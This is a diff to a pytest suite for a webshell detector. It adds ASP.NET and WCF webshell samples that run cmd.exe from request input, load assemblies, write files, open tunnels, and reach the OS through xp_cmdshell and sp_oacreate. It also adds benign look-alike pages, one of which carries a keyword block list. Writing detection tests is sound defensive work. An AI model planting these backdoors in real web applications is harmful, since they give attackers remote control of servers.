@@ -284,3 +284,347 @@ BENIGN += [
 def test_benign_look_alike(name: str, code: str) -> None:
     report = run(name, code)
     assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
+
+
+# A later round: page markup parsed at run time, assemblies created from a file, and the arguments
+# the page framework itself hands over from the client (docs/detection/webshell-code.md, "Markup,
+# assembly files, framework callbacks, WCF services, SQL Server, sockets").
+SHELLS_LATER = [
+    (
+        "markup.aspx",
+        page('Holder.Controls.Add(ParseControl(Request.Form["m"]));'),
+        "EXH-WS-CODE-COMPILE",
+        ["form field 'm'", "ParseControl"],
+    ),
+    (
+        "markup-this.aspx",
+        page(
+            'var c = this.ParseControl(Encoding.UTF8.GetString(Convert.FromBase64String(Request.Headers["X-M"])));\nControls.Add(c);'
+        ),
+        "EXH-WS-CODE-COMPILE",
+        ["request header 'X-M'", "base64-decodes it"],
+    ),
+    (
+        "instance-from.aspx",
+        page('var o = Activator.CreateInstanceFrom(Request.Form["p"], "Tools.Run").Unwrap();\no.Equals(Context);'),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["form field 'p'", "CreateInstanceFrom"],
+    ),
+    (
+        "unwrap-upload.aspx",
+        page(
+            'string dll = @"C:\\Windows\\Temp\\" + Request.Files[0].FileName;\n'
+            "Request.Files[0].SaveAs(dll);\n"
+            'AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Request.Form["dll"], "P.Run");'
+        ),
+        "EXH-WS-CODE-ASSEMBLY",
+        ["form field 'dll'", "CreateInstanceFromAndUnwrap"],
+    ),
+    (
+        "callback.aspx",
+        """<%@ Page Language="C#" %>
+<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
+<script runat="server">
+string result;
+public void RaiseCallbackEvent(string eventArgument) {
+    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + eventArgument);
+    psi.UseShellExecute = false;
+    psi.RedirectStandardOutput = true;
+    result = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
+}
+public string GetCallbackResult() { return result; }
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["client callback argument 'eventArgument'"],
+    ),
+    (
+        "postback.aspx",
+        """<%@ Page Language="VB" %>
+<%@ Implements Interface="System.Web.UI.IPostBackEventHandler" %>
+<script runat="server">
+Public Sub RaisePostBackEvent(ByVal eventArgument As String) Implements IPostBackEventHandler.RaisePostBackEvent
+    Shell("cmd.exe /c " & eventArgument)
+End Sub
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["postback event argument"],
+    ),
+    (
+        "postdata.ascx",
+        """<%@ Control Language="C#" %>
+<script runat="server">
+public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
+    System.IO.File.WriteAllText(postCollection["to"], postCollection["body"]);
+    return false;
+}
+public void RaisePostDataChangedEvent() { }
+</script>""",
+        "EXH-WS-CODE-FILE-WRITE",
+        ["posted form 'postCollection'"],
+    ),
+]
+
+
+SHELLS_LATER += [
+    (
+        "ops.svc",
+        """<%@ ServiceHost Language="C#" Debug="true" Service="Ops" %>
+using System.ServiceModel;
+using System.ServiceModel.Web;
+[ServiceContract]
+public interface IOps {
+    [OperationContract]
+    [WebGet(UriTemplate = "run?c={c}")]
+    string Run(string c);
+}
+public class Ops : IOps {
+    public string Run(string c) {
+        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);
+        psi.UseShellExecute = false;
+        psi.RedirectStandardOutput = true;
+        return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
+    }
+}""",
+        "EXH-WS-CODE-PROCESS",
+        ["web-method parameter 'c'"],
+    ),
+    (
+        "store.svc",
+        """<%@ ServiceHost Language="C#" Service="Store" %>
+using System.ServiceModel;
+[ServiceContract]
+public class Store {
+    [OperationContract]
+    public void Put(string path, byte[] data) { System.IO.File.WriteAllBytes(path, data); }
+}""",
+        "EXH-WS-CODE-FILE-WRITE",
+        ["web-method parameter 'path'"],
+    ),
+    (
+        "begin-connect.aspx",
+        page(
+            'var c = new System.Net.Sockets.TcpClient();\nc.BeginConnect(Request.QueryString["h"], 3389, null, null);'
+        ),
+        "EXH-WS-CODE-TUNNEL",
+        ["query parameter 'h'", "TcpClient.BeginConnect"],
+    ),
+    (
+        "udp-relay.aspx",
+        page(
+            "var u = new System.Net.Sockets.UdpClient();\n"
+            'u.Connect(new System.Net.DnsEndPoint(Request.Form["dns"], 53));'
+        ),
+        "EXH-WS-CODE-TUNNEL",
+        ["form field 'dns'"],
+    ),
+    (
+        "xp.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection("server=.;uid=sa;pwd=Passw0rd;database=master");\n'
+            "cn.Open();\n"
+            'var cmd = new System.Data.SqlClient.SqlCommand("exec master..xp_cmdshell \'" + '
+            'Request.Form["c"].Replace("\'", "\'\'") + "\'", cn);\n'
+            "var r = cmd.ExecuteReader();"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["form field 'c'", "through SQL Server"],
+    ),
+    (
+        "xp-text.aspx",
+        vb_page(
+            'Dim cn As New System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings("db").ConnectionString)\n'
+            "cn.Open()\n"
+            "Dim cmd As New System.Data.SqlClient.SqlCommand()\n"
+            "cmd.Connection = cn\n"
+            'cmd.CommandText = "EXEC xp_cmdshell \'" & Request("c") & "\'"\n'
+            "cmd.ExecuteNonQuery()"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["request parameter 'c'"],
+    ),
+    (
+        "oa.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection("server=10.0.0.5;uid=sa;pwd=x");\n'
+            "cn.Open();\n"
+            "new System.Data.SqlClient.SqlCommand(string.Format(\"declare @o int; exec sp_oacreate 'wscript.shell', @o out; "
+            "exec sp_oamethod @o, 'run', null, '{0}'\", Request.Form[\"c\"]), cn).ExecuteNonQuery();"
+        ),
+        "EXH-WS-CODE-SQL-SHELL",
+        ["form field 'c'"],
+    ),
+    (
+        "object-tag.aspx",
+        """<%@ Page Language="VB" %>
+<object id="sh" runat="server" progid="WScript.Shell"></object>
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    sh.Run("cmd.exe /c " & Request("c"), 0, True)
+End Sub
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["request parameter 'c'", "wscript.shell.Run"],
+    ),
+    (
+        "object-class.aspx",
+        """<%@ Page Language="VB" %>
+<object id="pr" runat="server" class="System.Diagnostics.Process" />
+<object id="fs" runat="server" classid="clsid:0D43FE01-F093-11CF-8940-00A0C9054228" />
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    pr.StartInfo.FileName = Request.Form("f")
+    pr.Start()
+End Sub
+</script>""",
+        "EXH-WS-CODE-PROCESS",
+        ["form field 'f'", "Process.Start"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS_LATER, ids=[s[0] for s in SHELLS_LATER])
+def test_later_published_sink_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
+    assert_found(name, code, rule_id, words)
+
+
+BENIGN_LATER = [
+    (
+        "drive-list.aspx",
+        page(
+            "foreach (var d in System.IO.DriveInfo.GetDrives())\n"
+            "    Holder.Controls.Add(ParseControl(\"<asp:Label runat='server' Text='\" + d.Name + \"' />\"));\n"
+            "Holder.Controls.Add(Page.ParseControl(\"<asp:HyperLink runat='server' NavigateUrl='~/Default.aspx' Text='Home' />\"));"
+        ),
+    ),
+    (
+        "plugin-host.aspx",
+        page(
+            'var clock = Activator.CreateInstanceFrom(Server.MapPath("~/bin/Widgets.dll"), "Widgets.Clock").Unwrap();\n'
+            'var kind = Request.QueryString["w"] == "date" ? "Widgets.Date" : "Widgets.Clock";\n'
+            'var w = AppDomain.CurrentDomain.CreateInstanceFromAndUnwrap(Server.MapPath("~/bin/Widgets.dll"), kind);\n'
+            "Holder.Controls.Add((Control)w);"
+        ),
+    ),
+    (
+        "help-callback.aspx",
+        """<%@ Page Language="C#" %>
+<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>
+<script runat="server">
+string result;
+public void RaiseCallbackEvent(string eventArgument) {
+    string topic = System.IO.Path.GetFileName(eventArgument);
+    result = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/help/" + topic + ".txt"));
+}
+public string GetCallbackResult() { return Server.HtmlEncode(result); }
+public void RaisePostBackEvent(string eventArgument) {
+    Session["sort"] = eventArgument;
+    Grid.Sort(eventArgument, SortDirection.Ascending);
+}
+</script>""",
+    ),
+    (
+        "rating.ascx",
+        """<%@ Control Language="C#" %>
+<script runat="server">
+public int Stars;
+public bool LoadPostData(string postDataKey, System.Collections.Specialized.NameValueCollection postCollection) {
+    int.TryParse(postCollection[postDataKey], out Stars);
+    return true;
+}
+public void RaisePostDataChangedEvent() { }
+</script>""",
+    ),
+]
+
+
+BENIGN_LATER += [
+    (
+        "catalog.svc",
+        """<%@ ServiceHost Language="C#" Service="Catalog" %>
+using System.ServiceModel;
+using System.Web.Hosting;
+[ServiceContract]
+public interface ICatalog {
+    [OperationContract]
+    string Describe(string sku);
+}
+public class Catalog : ICatalog {
+    public string Describe(string sku) {
+        string name = System.IO.Path.GetFileName(sku);
+        return System.IO.File.ReadAllText(HostingEnvironment.MapPath("~/App_Data/products/" + name + ".txt"));
+    }
+    public void Reindex() { System.Diagnostics.Process.Start(HostingEnvironment.MapPath("~/bin/indexer.exe")); }
+}""",
+    ),
+]
+
+
+BENIGN_LATER += [
+    (
+        "syslog.aspx",
+        page(
+            'string host = System.Configuration.ConfigurationManager.AppSettings["SyslogHost"];\n'
+            "using (var u = new System.Net.Sockets.UdpClient(host, 514)) {\n"
+            '    byte[] line = System.Text.Encoding.UTF8.GetBytes("<134>web: " + Request.RawUrl);\n'
+            "    u.Send(line, line.Length);\n"
+            "}"
+        ),
+    ),
+]
+
+
+BENIGN_LATER += [
+    (
+        "product-search.aspx",
+        page(
+            'string q = Request.QueryString["q"] ?? "";\n'
+            'foreach (var word in new[] { "xp_cmdshell", "sp_oacreate", "drop table" }) if (q.ToLower().Contains(word)) Response.End();\n'
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Products where Name like \'%" + q.Replace("\'", "\'\'") + "%\'", cn);\n'
+            "da.Fill(new System.Data.DataTable());"
+        ),
+    ),
+    (
+        "backup-jobs.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            "cn.Open();\n"
+            "new System.Data.SqlClient.SqlCommand(\"exec master..xp_cmdshell 'dir D:\\\\Backup'\", cn).ExecuteNonQuery();\n"
+            'var da = new System.Data.SqlClient.SqlDataAdapter("select * from Jobs where Name = \'" + Request.QueryString["job"].Replace("\'", "\'\'") + "\'", cn);\n'
+            "da.Fill(new System.Data.DataTable());"
+        ),
+    ),
+    (
+        "order-export.aspx",
+        page(
+            'var cn = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString);\n'
+            'var cmd = new System.Data.SqlClient.SqlCommand("select * from Orders where Id = " + int.Parse(Request.QueryString["id"]), cn);\n'
+            "cn.Open();\n"
+            'System.IO.File.WriteAllText(Server.MapPath("~/App_Data/export/last.txt"), Request.QueryString["id"]);\n'
+            'System.IO.File.Delete(Server.MapPath("~/App_Data/export/old.txt"));'
+        ),
+    ),
+]
+
+
+BENIGN_LATER += [
+    (
+        "object-helpers.aspx",
+        """<%@ Page Language="VB" %>
+<object id="cart" runat="server" class="System.Collections.Hashtable" />
+<object id="sh" runat="server" progid="WScript.Shell" />
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    cart(Request.QueryString("sku")) = 1
+    Total.Text = Server.HtmlEncode(Request.QueryString("sku"))
+    sh.Run(Server.MapPath("~/bin/thumbs.exe"), 0, False)
+End Sub
+</script>""",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN_LATER, ids=[b[0] for b in BENIGN_LATER])
+def test_later_benign_look_alike(name: str, code: str) -> None:
+    report = run(name, code)
+    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
